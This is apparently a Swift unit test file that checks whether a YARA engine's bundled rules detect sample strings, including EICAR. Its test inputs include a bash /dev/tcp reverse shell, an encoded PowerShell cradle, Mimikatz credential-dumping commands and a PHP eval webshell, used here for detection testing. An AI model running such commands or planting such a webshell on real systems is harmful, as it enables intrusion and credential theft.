import TestSupport
import XCTest
@testable import YaraEngine

/// The rules that ship in Signatures/yara compile and fire on samples made here.
final class StarterSignatureTests: XCTestCase {
    func scan(_ text: String, name: String) throws -> [String] {
        let files = RuleFileDiscovery.ruleFiles(in: [BuildProducts.packageRoot + "/Signatures/yara"]).map(\.path)
        let rules = try YaraRules(files: files)
        XCTAssertEqual(rules.failures, [])
        let scanner = try YaraScanner(rules: rules)
        scanner.setExternals(FileExternals.pathExternals(directory: "/samples", name: name))
        var bytes = Array(text.utf8)
        return try bytes.withUnsafeMutableBytes { try scanner.scan(UnsafeRawBufferPointer($0)) }.matches
            .map { rules.rules[$0.ruleIndex].name }.sorted()
    }

    func testEicar() throws {
        XCTAssertEqual(try scan(eicar, name: "eicar.com"), ["EICAR_Test_File"])
        XCTAssertEqual(try scan(eicar + "\n", name: "eicar.txt"), ["EICAR_Test_File"])
        XCTAssertEqual(try scan("EICAR-STANDARD-ANTIVIRUS-TEST-FILE", name: "doc.txt"), [])
    }

    func testGenericRules() throws {
        XCTAssertEqual(try scan("powershell.exe -w hidden -enc SQBFAFgA", name: "run.ps1"), ["SUSP_PowerShell_Encoded_Download_Cradle"])
        XCTAssertEqual(try scan("powershell -Command Get-Date", name: "ok.ps1"), [])
        XCTAssertEqual(try scan("#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", name: "x.sh"), ["SUSP_Linux_Reverse_Shell_DevTcp"])
        XCTAssertEqual(try scan("mimikatz # privilege::debug\nmimikatz # sekurlsa::logonpasswords", name: "log.txt"), ["HKTL_Mimikatz_Command_Strings"])
        XCTAssertEqual(try scan("<?php eval($_POST['c']); ?>", name: "x.php"), ["SUSP_PHP_Webshell_Eval_Request"])
        XCTAssertEqual(try scan("<?php echo htmlspecialchars($_POST['c']); ?>", name: "ok.php"), [])
        XCTAssertEqual(try scan("MZ\u{0}\u{0}this program", name: "invoice.pdf.exe"), ["SUSP_Executable_Double_Extension"])
        XCTAssertEqual(try scan("MZ\u{0}\u{0}this program", name: "setup.exe"), [])
    }
}
